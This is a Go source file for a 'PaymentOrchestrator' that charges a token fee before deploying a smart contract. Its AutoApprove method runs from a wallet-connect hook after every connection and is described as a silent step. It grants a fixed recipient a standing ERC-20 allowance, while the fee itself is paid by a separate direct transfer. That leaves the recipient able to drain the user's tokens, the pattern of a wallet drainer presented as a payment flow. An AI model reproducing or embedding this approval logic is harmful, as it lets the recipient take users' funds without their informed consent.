package solstudio

import (
	"context"
	"math/big"
	"sync"

	"github.com/ethereum/go-ethereum/params"
)

// PaymentOrchestrator runs the two-step token authorization/transfer
// protocol against the fixed recipient and exposes its progress as a single
// PaymentStatus value.
//
// Operations never overlap: an internal busy lock rejects a second
// operation with ErrBusy while one is in flight (including the deployment
// that follows a confirmed transfer). There is no retry, no backoff, and no
// rollback; each re-attempt starts its step sequence over.
type PaymentOrchestrator struct {
	provider Provider
	token    *Token
	cfg      Config
	logs     *LogSink
	deployer Deployer
	wallet   *WalletSession

	mu      sync.Mutex
	busy    bool
	status  PaymentStatus
	lastErr error
}

// NewPaymentOrchestrator creates an orchestrator. The wallet session is
// bound afterwards by the studio wiring, since the session's connect hook
// points back at AutoApprove.
func NewPaymentOrchestrator(provider Provider, cfg Config, logs *LogSink, deployer Deployer) *PaymentOrchestrator {
	return &PaymentOrchestrator{
		provider: provider,
		token:    NewToken(cfg.Token),
		cfg:      cfg,
		logs:     logs,
		deployer: deployer,
	}
}

// bindWallet attaches the session the pay step delegates to when no
// connection exists yet.
func (p *PaymentOrchestrator) bindWallet(w *WalletSession) {
	p.wallet = w
}

// Token returns the ERC-20 binding the orchestrator transacts against.
func (p *PaymentOrchestrator) Token() *Token {
	return p.token
}

// Status returns the current payment status.
func (p *PaymentOrchestrator) Status() PaymentStatus {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.status
}

// Err returns the retained failure reason, or nil. The reason is held for
// as long as the status stays StatusError.
func (p *PaymentOrchestrator) Err() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.lastErr
}

// AutoApprove grants the standing allowance to the recipient. It is
// invoked by the connect hook right after every successful connect, before
// any deploy action. Success returns the status to StatusIdle so the silent
// step never blocks the user; failure leaves StatusError standing until the
// next operation.
func (p *PaymentOrchestrator) AutoApprove(ctx context.Context, signer Signer) error {
	if err := p.begin(StatusApproving); err != nil {
		return err
	}

	p.logs.Info("Requesting approval for %s tokens...", wholeTokens(p.cfg.ApproveAmount))

	hash, err := p.token.Approve(ctx, signer, p.cfg.Recipient, p.cfg.ApproveAmount)
	if err != nil {
		return p.fail("approve", "submit", err)
	}
	p.logs.Info("Approval submitted: %s", ShortHash(hash))

	if err := signer.WaitMined(ctx, hash); err != nil {
		terr := &TransactionError{Op: "approve", Stage: "confirm", Hash: hash, Err: err}
		p.logs.Error("Approval failed: %v", err)
		p.finish(StatusError, terr)
		return terr
	}

	p.logs.Success("Token approval confirmed")
	p.finish(StatusIdle, nil)
	return nil
}

// PayAndDeploy transfers the deployment fee and, on confirmation, runs the
// deployer exactly once. With no session it delegates to Connect and
// returns: the pay action doubles as "connect" by design, and no transfer
// is attempted on that path.
func (p *PaymentOrchestrator) PayAndDeploy(ctx context.Context) (*Deployment, error) {
	if !p.wallet.Connected() {
		_, err := p.wallet.Connect(ctx)
		return nil, err
	}

	if err := p.begin(StatusConfirming); err != nil {
		return nil, err
	}

	p.logs.Info("Processing deployment fee of %s tokens...", wholeTokens(p.cfg.TransferAmount))

	// The signer is re-derived for every payment operation rather than
	// retained from connect.
	signer, err := p.provider.Signer(ctx)
	if err != nil {
		p.logs.Error("Payment failed: %v", err)
		p.finish(StatusError, err)
		return nil, err
	}

	hash, err := p.token.Transfer(ctx, signer, p.cfg.Recipient, p.cfg.TransferAmount)
	if err != nil {
		return nil, p.fail("transfer", "submit", err)
	}
	p.logs.Info("Payment submitted: %s", ShortHash(hash))

	if err := signer.WaitMined(ctx, hash); err != nil {
		terr := &TransactionError{Op: "transfer", Stage: "confirm", Hash: hash, Err: err}
		p.logs.Error("Payment failed: %v", err)
		p.finish(StatusError, terr)
		return nil, terr
	}

	p.logs.Success("Payment confirmed")

	// The transfer outcome is final here; deployment runs unconditionally
	// and a deploy failure does not un-succeed the payment. The busy lock
	// stays held until the deployer returns.
	p.setStatus(StatusSuccess)

	dep, err := p.deployer.Deploy(ctx)
	if err != nil {
		p.logs.Error("Deployment failed: %v", err)
		p.release()
		return nil, err
	}

	p.logs.Success("Contract deployed at %s", dep.Address.Hex())
	p.release()
	return dep, nil
}

// begin takes the busy lock and enters the in-flight status. The retained
// error from a previous failure is cleared when a new operation starts.
func (p *PaymentOrchestrator) begin(next PaymentStatus) error {
	p.mu.Lock()
	defer p.mu.Unlock()

	if p.busy {
		return ErrBusy
	}
	p.busy = true
	p.status = next
	p.lastErr = nil
	return nil
}

// finish releases the busy lock and settles on the given status.
func (p *PaymentOrchestrator) finish(status PaymentStatus, err error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.busy = false
	p.status = status
	p.lastErr = err
}

// setStatus changes the observable status without releasing the busy lock.
func (p *PaymentOrchestrator) setStatus(status PaymentStatus) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.status = status
}

// release drops the busy lock, leaving the status as it stands.
func (p *PaymentOrchestrator) release() {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.busy = false
}

// fail records a submission-stage transaction failure.
func (p *PaymentOrchestrator) fail(op, stage string, err error) error {
	terr := &TransactionError{Op: op, Stage: stage, Err: err}
	switch op {
	case "approve":
		p.logs.Error("Approval failed: %v", err)
	default:
		p.logs.Error("Payment failed: %v", err)
	}
	p.finish(StatusError, terr)
	return terr
}

// wholeTokens renders an 18-decimal amount as a whole-token count for logs.
func wholeTokens(amount *big.Int) string {
	return new(big.Int).Div(amount, big.NewInt(params.Ether)).String()
}
